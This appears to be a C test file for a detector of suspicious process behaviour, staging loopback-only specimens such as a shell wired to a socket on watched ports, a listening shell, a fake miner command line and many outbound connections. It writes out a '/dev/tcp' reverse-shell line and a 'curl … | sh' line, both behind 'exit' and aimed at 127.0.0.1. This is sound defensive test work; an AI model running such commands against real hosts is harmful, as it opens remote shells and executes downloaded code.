/* SPDX-License-Identifier: MIT */
/* Wires: to ourselves, on loopback. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "tests/specimens/specimen.h"

enum { CONNECTIONS = 30 };

static struct sockaddr_in loopback(uint16_t port)
{
    return (struct sockaddr_in){
        .sin_family = AF_INET,
        .sin_port = htons(port),
        .sin_addr.s_addr = htonl(INADDR_LOOPBACK),
    };
}

static int listen_on(uint16_t port, uint16_t *ret_port)
{
    struct sockaddr_in address = loopback(port);
    socklen_t length = sizeof address;
    int one = 1;
    int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

    if (listener < 0)
        specimen_skip("TCP");
    /* Else a connection of the last run would keep the port for a minute. */
    setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(listener, (struct sockaddr *)&address, sizeof address) != 0 ||
        listen(listener, CONNECTIONS) != 0 ||
        getsockname(listener, (struct sockaddr *)&address, &length) != 0) {
        close(listener);
        return -1;
    }
    *ret_port = ntohs(address.sin_port);
    return listener;
}

static int connect_to(uint16_t port, int flags)
{
    struct sockaddr_in address = loopback(port);
    int connection = socket(AF_INET, SOCK_STREAM | flags, 0);

    if (connection < 0 || connect(connection, (struct sockaddr *)&address, sizeof address) != 0)
        specimen_fail("connect");
    return connection;
}

/* The first of the ports that are watched by default which nobody has. */
static void prepare_watched(struct stage *stage)
{
    static const uint16_t watched[] = {4444, 3333, 5555, 6666, 7777, 8888};

    stage->listener = -1;
    for (size_t i = 0; stage->listener < 0 && i < sizeof watched / sizeof watched[0]; i++)
        stage->listener = listen_on(watched[i], &stage->port);
    if (stage->listener < 0)
        specimen_skip("every watched port is taken");
}

static void enter_socket_shell(struct stage *stage)
{
    int connection = connect_to(stage->port, 0);

    for (int fd = STDIN_FILENO; fd <= STDERR_FILENO; fd++)
        if (dup2(connection, fd) < 0)
            specimen_fail("dup2");
    if (connection > STDERR_FILENO)
        close(connection);
    stage_expect(stage, "watched_port", "127.0.0.1:%u", stage->port);
    stage_expect(stage, "no_tty", "%s", "");
    stage_expect(stage, "revshell_stdio", "127.0.0.1:%u", stage->port);
    execl("/bin/sh", "sh", (char *)NULL);
    specimen_fail("/bin/sh");
}

static void enter_holding_shell(struct stage *stage)
{
    connect_to(stage->port, 0);
    close(stage->listener);
    stage_expect(stage, "shell_conn", "127.0.0.1:%u", stage->port);
    specimen_run_shell("read line; echo $line");
}

static void enter_listening_shell(struct stage *stage)
{
    uint16_t port;
    int listener = listen_on(0, &port);

    if (listener < 0 || fcntl(listener, F_SETFD, 0) != 0)
        specimen_skip("no port to listen on");
    stage_expect(stage, "listen_shell", "127.0.0.1:%u", port);
    specimen_run_shell("read line; echo $line");
}

static void enter_wiring(struct stage *stage)
{
    stage_expect(stage, "revshell_cmdline", "/dev/tcp/");
    specimen_run_shell("read line; exit; sh -i >& /dev/tcp/127.0.0.1/9 0>&1");
}

static void enter_fetching(struct stage *stage)
{
    stage_expect(stage, "pipe_exec", "curl into a shell");
    specimen_run_shell("read line; exit; curl -s http://127.0.0.1:9/ | sh");
}

static void enter_mining(struct stage *stage)
{
    char self[PATH_MAX] = "";

    if (readlink("/proc/self/exe", self, sizeof self - 1) < 0)
        specimen_fail("/proc/self/exe");
    stage_expect(stage, "miner_cmdline", "stratum+tcp://");
    execl(self, self, "wait", "stratum+tcp://127.0.0.1:9", (char *)NULL);
    specimen_fail(self);
}

static void prepare_crowd(struct stage *stage)
{
    stage->listener = listen_on(0, &stage->port);
    if (stage->listener < 0)
        specimen_skip("no port to listen on");
}

static void enter_crowd(struct stage *stage)
{
    close(stage->listener);
    for (int i = 0; i < CONNECTIONS; i++)
        connect_to(stage->port, SOCK_CLOEXEC);
    stage_expect(stage, "many_conns", "%d", CONNECTIONS);
}

static const struct specimen rows[] = {
    {"shell",       "a shell on a socket to a watched port", prepare_watched, enter_socket_shell,
     NULL                                                                                                },
    {"holding",     "a shell with a connection",             prepare_crowd,   enter_holding_shell,   NULL},
    {"listening",   "a shell that listens",                  NULL,            enter_listening_shell, NULL},
    {"wiring",      "wires a shell to the network",          NULL,            enter_wiring,          NULL},
    {"fetching",    "runs what it downloads",                NULL,            enter_fetching,        NULL},
    {"mining",      "a miner's command line",                NULL,            enter_mining,          NULL},
    {"connections", "many outbound connections",             prepare_crowd,   enter_crowd,           NULL},
};

const struct specimen_table specimens_wires = {rows, sizeof rows / sizeof *rows};
